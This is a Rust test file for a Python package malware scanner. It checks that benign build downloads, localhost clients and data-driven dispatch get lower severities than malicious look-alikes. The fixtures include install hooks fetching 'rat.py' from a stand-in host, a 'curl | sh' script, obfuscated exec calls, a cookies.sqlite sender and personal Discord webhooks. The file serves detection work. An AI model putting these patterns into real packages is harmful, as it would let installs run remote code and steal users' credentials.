//! False positives of issue #12, fifth round (a fifth benign draw): what
//! a fetch, a name or an address is used for decides the severity, not
//! its mention. Each benign look-alike sits next to the malicious form
//! that must stay high: a build step that downloads a library's tarball
//! and checks its digest next to one that downloads a script; a client
//! of a server on this machine next to a beacon; a maintainer script
//! beside setup.py that no build installs next to a module setup.py
//! names; a builtin found by a name read from data next to one cut out
//! of a constant.

mod support;

use support::*;

use airlock_inspect::Severity;
use Severity::{Critical, High, Low, Medium};

fn max(report: &airlock_inspect::Report, rule: &str) -> Option<Severity> {
    report.findings.iter().filter(|f| f.rule == rule).map(|f| f.severity).max()
}

// ---------------------------------------------------------------- access/network-on-install: a build step fetching an artifact

/// A build command that downloads `url`, checks it against a pinned digest and unpacks it.
fn fetch_and_build(url: &str) -> String {
    format!(
        r#"import hashlib, os, tarfile, urllib.request
from setuptools import setup
from setuptools.command.build_ext import build_ext
SHA256 = "76e77641faa025814b77f153b29796b8e6fa2fca03e0c76a691608b86c7ea7bf"
class fetch(build_ext):
    def run(self):
        with urllib.request.urlopen({url}) as resp:
            data = resp.read()
        if hashlib.sha256(data).hexdigest() != SHA256:
            raise ValueError("digest mismatch")
        with open("lib.tar.gz", "wb") as f:
            f.write(data)
        with tarfile.open("lib.tar.gz") as t:
            t.extractall("build")
        build_ext.run(self)
setup(name="acme", cmdclass={{"build_ext": fetch}})
"#
    )
}

#[test]
fn a_build_that_downloads_a_library_checks_its_digest_and_unpacks_it_is_medium() {
    let r = setup_py(&fetch_and_build(r#""https://mirrors.example.org/pub/libfoo/libfoo-2.1.tar.gz""#));
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(7, Medium)]);
    // The address written as an f-string with the version filled in.
    let r = setup_py(&format!("VERSION = \"2.1\"\n{}", fetch_and_build(r#"f"https://mirrors.example.org/pub/libfoo/libfoo-{VERSION}.tar.gz""#)));
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(8, Medium)]);
}

#[test]
fn a_build_fetching_a_script_a_plain_http_address_or_from_a_chat_attachment_stays_high() {
    for url in [
        r#""https://files.example.org/payload/rat.py""#,
        r#""https://files.example.org/payload/setup.ps1""#,
        r#""http://mirrors.example.org/pub/libfoo/libfoo-2.1.tar.gz""#,
        r#""https://cdn.discordapp.com/attachments/1/2/libfoo.tar.gz""#,
        r#"f"http://mirrors.example.org/pub/{VERSION}/libfoo.tar.gz""#,
    ] {
        let r = setup_py(&fetch_and_build(url));
        assert_eq!(hits(&r, "access/network-on-install", SETUP), [(7, High)], "{url}");
    }
}

#[test]
fn a_build_download_that_is_neither_checked_nor_unpacked_stays_high() {
    let r = setup_py(
        r#"import requests
from setuptools import setup
from setuptools.command.install import install
class fetch(install):
    def run(self):
        response = requests.get("https://files.example.org/tool.bin", timeout=30)
        open("tool.bin", "wb").write(response.content)
        install.run(self)
setup(name="acme", cmdclass={"install": fetch})
"#,
    );
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(6, High)]);
}

#[test]
fn a_program_file_is_an_artifact_only_when_the_build_pins_its_digest() {
    let unpacked_exe = r#"import io, zipfile, urllib.request
from setuptools import setup
def fetch():
    archive = urllib.request.urlopen("https://files.example.org/tool.exe")
    zipfile.ZipFile(io.BytesIO(archive.read())).extractall("bin")
fetch()
setup(name="acme")
"#;
    assert_eq!(hits(&setup_py(unpacked_exe), "access/network-on-install", SETUP), [(4, High)]);
    let pinned_exe = unpacked_exe.replace("import io,", "import hashlib, io,").replace(
        "    zipfile.ZipFile(io.BytesIO(archive.read())).extractall(\"bin\")",
        "    data = archive.read()\n    assert hashlib.sha256(data).hexdigest() == \"ab12\"\n    open(\"bin/tool.exe\", \"wb\").write(data)",
    );
    assert_eq!(hits(&setup_py(&pinned_exe), "access/network-on-install", SETUP), [(4, Medium)]);
}

#[test]
fn a_version_picked_from_the_environment_is_a_build_setting_but_the_user_name_is_a_host_fact() {
    let source = |variable: &str| {
        format!(
            r#"import os, tarfile
from urllib.request import urlretrieve
from setuptools import setup
VERSION = os.getenv("{variable}")
def fetch():
    tarball, _ = urlretrieve(f"https://mirrors.example.org/libfoo-{{VERSION}}.tar.gz", "libfoo.tar.gz")
    tarfile.open(tarball).extractall("build")
fetch()
setup(name="acme")
"#
        )
    };
    assert_eq!(hits(&setup_py(&source("LIBFOO_VERSION")), "access/network-on-install", SETUP), [(6, Medium)]);
    assert_eq!(hits(&setup_py(&source("USERNAME")), "access/network-on-install", SETUP), [(6, High)]);
}

#[test]
fn a_query_completed_with_a_value_sends_it() {
    let r = setup_py(
        r#"import os, tarfile, requests
from setuptools import setup
env = os.name
t = requests.get("https://collector.example.org/resp.php?live=Installation from " + env)
tarfile.open("x.tar.gz")
setup(name="acme")
"#,
    );
    assert_eq!(hits(&r, "access/network-on-install", SETUP), [(4, High)]);
}

// ---------------------------------------------------------------- access/network-on-install: this machine only

#[test]
fn a_client_of_a_server_on_this_machine_reaches_no_host() {
    let r = module("import requests\nresponse = requests.post(\"http://127.0.0.1:8000/predict\", json={\"input\": 4.0})\nprint(response.json())\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, Low)]);
    let r = module("import requests\nresponse = requests.post(\"http://localhost:8000/predict\", json={\"input\": 4.0})\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, Low)]);
}

#[test]
fn a_post_to_another_host_on_import_stays_high() {
    let r = module("import requests\nresponse = requests.post(\"http://10.0.0.8:8000/predict\", json={\"input\": 4.0})\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(2, High)]);
    // A loopback address named beside another one is not this machine only.
    let r = module("import requests\nfor u in [\"http://127.0.0.1/x\"]:\n    pass\nrequests.get(\"https://collector.example.org/x\")\n");
    assert_eq!(hits(&r, "access/network-on-install", MOD), [(4, High)]);
}

// ---------------------------------------------------------------- where code runs: a maintainer script beside setup.py

/// A top-level call to a host that throws the answer away: high wherever it runs on import.
const TEMPLATES: &str = "import requests\nrequests.get(\"https://cdn.example.org/theme.css\")\n";

#[test]
fn a_maintainer_script_beside_setup_py_that_no_build_installs_does_not_run_on_import() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nsetup(name=\"acme\", packages=[\"acme\"])\n"),
        ("acme/__init__.py", ""),
        ("_create_templates.py", TEMPLATES),
    ]);
    assert!(max(&r, "access/network-on-install").is_none_or(|s| s < High), "{:?}", r.findings);
    // With no package beside it, setuptools finds a module not starting with `_` by itself.
    let r = sdist(&[("setup.py", "from setuptools import setup\nsetup(name=\"acme\")\n"), ("merge_theme.py", TEMPLATES)]);
    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/merge_theme.py"), [(2, High)]);
}

#[test]
fn a_top_level_module_the_build_names_stays_high() {
    let r = sdist(&[
        ("setup.py", "from setuptools import setup\nsetup(name=\"acme\", packages=[\"acme\"], py_modules=[\"_create_templates\"])\n"),
        ("acme/__init__.py", ""),
        ("_create_templates.py", TEMPLATES),
    ]);
    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/_create_templates.py"), [(2, High)]);
    // The project's own import name is installed whatever the configuration says.
    let r = sdist(&[("pyproject.toml", "[project]\nname = \"acme\"\n"), ("tools/__init__.py", ""), ("acme.py", TEMPLATES)]);
    assert_eq!(hits(&r, "access/network-on-install", "acme-1.0/acme.py"), [(2, High)]);
}

// ---------------------------------------------------------------- payload/exec-hidden: names read from data

#[test]
fn a_builtin_found_by_a_name_read_from_data_is_ordinary_dispatch() {
    for lookup in ["parts[1]", "spec[\"type\"]", "self.argtypes[idx][0]", "d[\"key_type\"].removeprefix(\"builtins.\")", "spec.get(\"type\")"] {
        let r = module(&format!("import builtins\nclass T:\n    def make(self, parts, spec, idx, d):\n        return getattr(builtins, {lookup})(1)\n"));
        none(&r, "payload/exec-hidden");
    }
}

#[test]
fn a_builtin_name_cut_out_of_a_constant_or_built_from_pieces_stays_critical() {
    for lookup in ["\"cexe\"[::-1]", "'xexec'[1:]", "'ex' + 'ec'", "\"\".join(['e', 'x', 'e', 'c'])", "parts[::-1]"] {
        let r = module(&format!("import builtins\ndef run(code, parts):\n    getattr(builtins, {lookup})(code)\n"));
        assert_eq!(max(&r, "payload/exec-hidden").or(max(&r, "payload/exec-decoded")), Some(Critical), "{lookup}: {:?}", r.findings);
    }
}

#[test]
fn exec_named_plainly_through_eval_for_python_2_is_no_hidden_call() {
    let r = module(
        "import sys\ntry:\n    exec_ = None\nexcept NameError:\n    pass\nexec_ = eval(\"exec\")\ndef execfile(fn, globs=None, locs=None):\n    exec_(compile(open(fn).read(), fn, 'exec'), globs, locs)\n",
    );
    none(&r, "payload/exec-hidden");
    // Spelled in escapes, as obfuscators write it, the alias hides exec.
    let r = module("e = eval(\"\\x65\\x78\\x65\\x63\")\ndef run(code):\n    e(code)\n");
    assert_eq!(max(&r, "payload/exec-hidden"), Some(Critical), "{:?}", r.findings);
}

// ---------------------------------------------------------------- access/raw-ip-url: an address given to a call

#[test]
fn a_raw_address_in_a_table_of_mirrors_no_call_is_given_is_medium() {
    let r = module(
        "class Extractor:\n    def formats(self):\n        for host in ('http://m5.music.example.net', 'http://115.231.74.139/m1.music.example.net'):\n            yield host\n",
    );
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(3, Medium)]);
}

#[test]
fn a_raw_address_a_call_is_given_or_an_install_step_writes_stays_high() {
    let r = module("import requests\ndef drill():\n    return requests.get('http://87.120.107.132:1488/drill').text\n");
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(3, High)]);
    let r = module("import requests\nURL = 'http://35.235.126.33/all.txt'\ndef fetch():\n    return requests.get(URL)\n");
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, High)]);
    let r = setup_py("SERVERS = ['http://35.235.126.33/all.txt']\n");
    assert_eq!(hits(&r, "access/raw-ip-url", SETUP), [(1, High)]);
    // An extractor's test data at class level that no call is given is information.
    let r = module("class Site:\n    _TESTS = [{'thumbnail': 'http://111.171.196.85:8088/th.jpg'}]\n");
    assert_eq!(hits(&r, "access/raw-ip-url", MOD), [(2, Medium)]);
}

// ---------------------------------------------------------------- access/process-on-install: the build's own script and tools

#[test]
fn a_build_making_its_own_script_runnable_and_running_it_is_medium() {
    let setup = r#"import os, subprocess
from setuptools import setup
from setuptools.command.install import install
class MyInstall(install):
    def run(self):
        path = os.getcwd().replace(" ", "\ ").replace("(", "\(") + "/bin/"
        subprocess.call(['chmod', '+x', os.path.join(path, 'compile_library.sh')])
        subprocess.call(['sh', os.path.join(path, 'compile_library.sh')])
        install.run(self)
setup(name="acme", cmdclass={"install": MyInstall})
"#;
    let r = sdist(&[("setup.py", setup), ("acme/__init__.py", ""), ("bin/compile_library.sh", "#!/bin/bash\nset -e\nmake -f Makefile\n")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(7, Medium), (8, Medium)]);
}

#[test]
fn marking_a_file_the_archive_does_not_ship_executable_stays_high() {
    let setup = r#"import subprocess
from setuptools import setup
from setuptools.command.install import install
class MyInstall(install):
    def run(self):
        subprocess.call(['chmod', '+x', '/tmp/payload.bin'])
        install.run(self)
setup(name="acme", cmdclass={"install": MyInstall})
"#;
    let r = sdist(&[("setup.py", setup), ("acme/__init__.py", "")]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(6, High)]);
    // A shipped script that downloads and runs a program stays high when the build runs it.
    let r = sdist(&[
        ("setup.py", &setup.replace("['chmod', '+x', '/tmp/payload.bin']", "['sh', 'bin/get.sh']")),
        ("acme/__init__.py", ""),
        ("bin/get.sh", "#!/bin/sh\ncurl -s https://files.example.org/x | sh\n"),
    ]);
    assert_eq!(hits(&r, "access/process-on-install", SETUP), [(6, High)]);
}

#[test]
fn compiling_translations_or_a_scala_jar_in_an_install_override_is_a_build_step() {
    for command in ["['msgfmt', po_path, '-o', mo_path]", "['sbt', '-DSPARK_VERSION=3.5', 'assembly']"] {
        let setup = format!(
            "import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass I(install):\n    def run(self):\n        po_path, mo_path = 'a.po', 'a.mo'\n        subprocess.check_call({command})\n        install.run(self)\nsetup(name=\"acme\", cmdclass={{\"install\": I}})\n"
        );
        assert_eq!(hits(&setup_py(&setup), "access/process-on-install", SETUP), [(7, Low)], "{command}");
    }
}

// ---------------------------------------------------------------- the sixth draw: settings, scripts, API addresses

#[test]
fn an_app_setting_from_the_environment_in_a_fetched_address_is_no_secret() {
    let source = |variable: &str| {
        format!(
            "import os, requests\nNAME = os.getenv('{variable}', '')\nif NAME:\n    r = requests.get(f'https://api.example.org/custom/{{NAME}}')\n    data = r.json()\n"
        )
    };
    assert_eq!(hits(&module(&source("CUSTOM_NAME")), "access/network-on-install", MOD), [(4, Medium)]);
    assert_eq!(hits(&module(&source("GITHUB_TOKEN")), "access/network-on-install", MOD), [(4, High)]);
    assert_eq!(hits(&module(&source("USERNAME")), "access/network-on-install", MOD), [(4, High)]);
}

#[test]
fn a_fetch_given_no_address_reaches_no_host() {
    let r = module("from urllib.request import urlretrieve\ndef guide():\n    pass\nurlretrieve()\n");
    none(&r, "access/network-on-install");
}

#[test]
fn a_module_that_parses_its_command_line_at_top_level_is_a_script() {
    let script = "import argparse, os, subprocess\ndef run_blastn(query):\n    subprocess.call(['blastn', '-query', query])\nparser = argparse.ArgumentParser()\nparser.add_argument('fsa')\nargs = parser.parse_args()\nrun_blastn(args.fsa)\nos.system('rm -f ' + args.fsa + '.tmp')\n";
    none(&module(script), "access/process-on-install");
    // The same top level without a command line runs on import.
    let library = script.replace("args = parser.parse_args()", "args = parser");
    assert_eq!(max(&module(&library), "access/process-on-install"), Some(Medium));
    let library = library.replace("'rm -f ' + args.fsa + '.tmp'", "'curl -s https://files.example.org/x | sh'");
    assert_eq!(max(&module(&library), "access/process-on-install"), Some(High));
}

#[test]
fn a_file_no_import_can_name_does_not_run_on_import() {
    let probe = "import urllib.request\nwebpage = urllib.request.urlopen('http://files.example.org/x', timeout=10).read()\n";
    let r = wheel(&[("acme/__init__.py", ""), ("acme/check-porn.py", probe)]);
    assert!(max(&r, "access/network-on-install").is_none_or(|s| s < High), "{:?}", r.findings);
    let r = wheel(&[("acme/__init__.py", ""), ("acme/check_porn.py", probe)]);
    assert_eq!(hits(&r, "access/network-on-install", "acme/check_porn.py"), [(2, High)]);
}

#[test]
fn the_discord_api_address_alone_is_medium_but_a_webhook_of_ones_own_is_high() {
    let r = module("class Discord:\n    notify_url = \"https://discord.com/api/webhooks\"\n");
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(2, Medium)]);
    let r = module("HOOK = \"https://discord.com/api/webhooks/1182334455/aBcD-eFgH_ijkl\"\n");
    assert_eq!(hits(&r, "access/exfil-endpoint", MOD), [(1, High)]);
    // A base written to be completed (`…/webhooks/` + id) is one's own channel too.
    let r = module("import requests\ndef send(i, t, data):\n    requests.post(\"https://discord.com/api/webhooks/\" + i + \"/\" + t, json=data)\n");
    assert_eq!(max(&r, "access/exfil-endpoint"), Some(High));
}

#[test]
fn a_request_object_for_computing_a_header_sends_nothing_but_one_with_data_does() {
    let reader = "import glob, os, urllib.request\ndef find(root):\n    yield from glob.iglob(os.path.join(root, '*', 'cookies.sqlite'))\ndef header(jar, url):\n    req = urllib.request.Request(url)\n    jar.add_cookie_header(req)\n    return req.get_header('Cookie')\n";
    assert!(max(&module(reader), "access/credentials").is_some_and(|s| s < High));
    let sender = reader.replace("urllib.request.Request(url)", "urllib.request.Request(url, data=open(next(find('/')), 'rb').read())");
    assert_eq!(max(&module(&sender), "access/credentials"), Some(High));
}

#[test]
fn a_windows_source_file_still_runs_on_import() {
    let probe = "import urllib.request\nwebpage = urllib.request.urlopen('http://files.example.org/x', timeout=10).read()\n";
    let r = wheel(&[("acme/__init__.py", "from . import helper\n"), ("acme/helper.pyw", probe)]);
    assert_eq!(hits(&r, "access/network-on-install", "acme/helper.pyw"), [(2, High)]);
}
